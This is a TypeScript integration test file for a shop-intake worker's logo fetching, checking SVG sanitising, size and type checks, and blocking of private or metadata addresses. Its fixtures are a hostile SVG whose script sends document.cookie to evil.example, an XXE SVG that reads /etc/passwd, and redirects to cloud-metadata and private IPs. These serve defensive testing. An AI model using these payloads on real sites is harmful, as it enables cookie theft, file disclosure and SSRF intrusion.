import { createTestRedis, type ReceivedMail, type SmtpSink, startSmtpSink, type TestRedis } from '@msa/test-kit';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildIntakeJob } from './support/build-job.js';
import { PNG_1X1, redirectTo, sendBytes, startLogoServer, streamLargePng, SVG_LOGO, type LogoServer } from './support/logo-server.js';
import { startTestWorker, type TestWorker } from './support/worker.js';

const OPERATOR = 'team@shop.example';

const HOSTILE_SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" onload="alert(1)">' +
    '<script>fetch("https://evil.example/?c="+document.cookie)</script>' +
    '<foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml"><img src="https://evil.example/p.png"/></div></foreignObject>' +
    '<image href="https://evil.example/track.png" width="1" height="1"/><use href="https://evil.example/s.svg#x"/>' +
    '<a xlink:href="javascript:alert(2)"><circle r="4" cx="5" cy="5" style="fill:url(https://evil.example/f)"/></a><rect width="2" height="2"/></svg>',
);
const XXE_SVG = Buffer.from(
  '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>',
);

let testRedis: TestRedis;
let smtp: SmtpSink;
let logos: LogoServer;
/** Allows loopback, as every other test does. */
let open: TestWorker;
/** Production's address checks, with only the logo server's own address let through. */
let guarded: TestWorker;
/** Production's address checks as they are. */
let strict: TestWorker;

beforeAll(async () => {
  testRedis = await createTestRedis('intake-logos');
  smtp = await startSmtpSink();
  logos = await startLogoServer({
    '/wappen.png': sendBytes(PNG_1X1),
    '/wappen.svg': sendBytes(SVG_LOGO, 'image/svg+xml'),
    '/hostile.svg': sendBytes(HOSTILE_SVG, 'image/svg+xml'),
    '/xxe.svg': sendBytes(XXE_SVG, 'image/svg+xml'),
    '/huge.png': streamLargePng(5 * 1024 * 1024),
    '/page.png': sendBytes(Buffer.from('<!doctype html><html><body>Logo</body></html>'), 'image/png'),
    '/to-metadata.png': redirectTo('http://169.254.169.254/latest/meta-data/'),
    '/to-private.png': redirectTo('http://10.0.0.8/logo.png', 301),
  });
  const smtpEnv = { SMTP_URL: smtp.url };
  [open, guarded, strict] = await Promise.all([
    startTestWorker(testRedis, smtpEnv),
    startTestWorker(testRedis, { ...smtpEnv, LOGO_FETCH_ALLOW_PRIVATE_NETWORKS: 'false', LOGO_FETCH_ALLOW_ADDRESSES: '127.0.0.1' }),
    startTestWorker(testRedis, { ...smtpEnv, LOGO_FETCH_ALLOW_PRIVATE_NETWORKS: 'false' }),
  ]);
});

afterAll(async () => {
  await Promise.all([open?.close(), guarded?.close(), strict?.close()]);
  await smtp?.close();
  await logos?.close();
  await testRedis?.cleanup();
});

async function deliver(worker: TestWorker, logoUrls: string[]): Promise<{ operator: ReceivedMail; listNotes: string }> {
  const job = buildIntakeJob({ logoUrls });
  await worker.add(job);
  await worker.waitForState(job.request_id, 'completed');
  const operator = smtp.to(OPERATOR).filter((m) => m.parsed.messageId === `<${job.request_id}.operator@shop.example>`);
  expect(operator).toHaveLength(1);
  expect(smtp.messages.filter((m) => m.parsed.messageId === `<${job.request_id}.confirmation@shop.example>`)).toHaveLength(1);
  const [entry] = await testRedis.redis.xrevrange(`${testRedis.prefix}intake:list`, '+', '-', 'COUNT', 1);
  const fields = entry![1];
  expect(fields[fields.indexOf('request_id') + 1]).toBe(job.request_id);
  return { operator: operator[0]!, listNotes: fields[fields.indexOf('logo_notes') + 1]! };
}

const imageAttachments = (mail: ReceivedMail) => mail.parsed.attachments.filter((a) => a.contentType.startsWith('image/'));

describe('logos of a shop request', () => {
  it('attaches PNG and SVG logos', async () => {
    const { operator } = await deliver(open, [logos.url('/wappen.png'), logos.url('/wappen.svg')]);

    expect(imageAttachments(operator).map((a) => [a.filename, a.contentType])).toEqual([
      ['logo-1-wappen.png', 'image/png'],
      ['logo-2-wappen.svg', 'image/svg+xml'],
    ]);
  });

  it('attaches a hostile SVG only without its script, handlers, foreignObject and external references', async () => {
    const { operator } = await deliver(open, [logos.url('/hostile.svg')]);

    const [svg] = imageAttachments(operator);
    expect(svg?.contentType).toBe('image/svg+xml');
    const text = svg!.content.toString('utf8');
    expect(text).toContain('<rect width="2" height="2"/>');
    expect(text).not.toMatch(/script|onload|foreignObject|evil\.example|javascript:|<img|<div/i);
  });

  it('refuses an SVG declaring an entity (XXE) and lists it as refused', async () => {
    const url = logos.url('/xxe.svg');

    const { operator, listNotes } = await deliver(open, [url]);

    expect(imageAttachments(operator)).toEqual([]);
    expect(operator.parsed.text).toContain('abgelehnt: SVG-Datei ließ sich nicht sicher bereinigen (declares entities)');
    expect(listNotes).toContain(`${url}: abgelehnt: SVG-Datei`);
  });

  it('refuses a 5 MB logo and still delivers the request with a note', async () => {
    const url = logos.url('/huge.png');

    const { operator, listNotes } = await deliver(open, [url]);

    expect(imageAttachments(operator)).toEqual([]);
    expect(operator.parsed.text).toMatch(new RegExp(`Logo: ${url}\\s+nicht angehängt: Datei größer als 4 MB`));
    expect(listNotes).toContain(`${url}: nicht angehängt: Datei größer als 4 MB`);
  });

  it('refuses an HTML page served as image/png by its first bytes', async () => {
    const url = logos.url('/page.png');

    const { operator } = await deliver(open, [url]);

    expect(imageAttachments(operator)).toEqual([]);
    expect(operator.parsed.text).toContain('nicht angehängt: keine PNG-, JPEG- oder SVG-Datei');
  });

  it('does not connect to a logo at a private address and still delivers the request', async () => {
    const url = logos.url('/wappen.png');
    const before = logos.requests.length;

    const { operator } = await deliver(strict, [url]);

    expect(logos.requests.length).toBe(before);
    expect(imageAttachments(operator)).toEqual([]);
    expect(operator.parsed.text).toContain('die Adresse ist nicht öffentlich');
    expect(operator.parsed.text).toContain('127.0.0.1 is not public (loopback)');
  });

  it('checks a redirect target again and refuses the metadata address', async () => {
    const { operator } = await deliver(guarded, [logos.url('/to-metadata.png')]);

    expect(logos.requests).toContain('/to-metadata.png');
    expect(imageAttachments(operator)).toEqual([]);
    expect(operator.parsed.text).toContain('169.254.169.254 is not public (metadata)');
  });

  it('checks a redirect target again and refuses a private network', async () => {
    const { operator } = await deliver(guarded, [logos.url('/to-private.png')]);

    expect(operator.parsed.text).toContain('10.0.0.8 is not public (private)');
  });

  it('still fetches from an explicitly allowed address under the address checks', async () => {
    const { operator } = await deliver(guarded, [logos.url('/wappen.png')]);

    expect(imageAttachments(operator)).toHaveLength(1);
  });
});
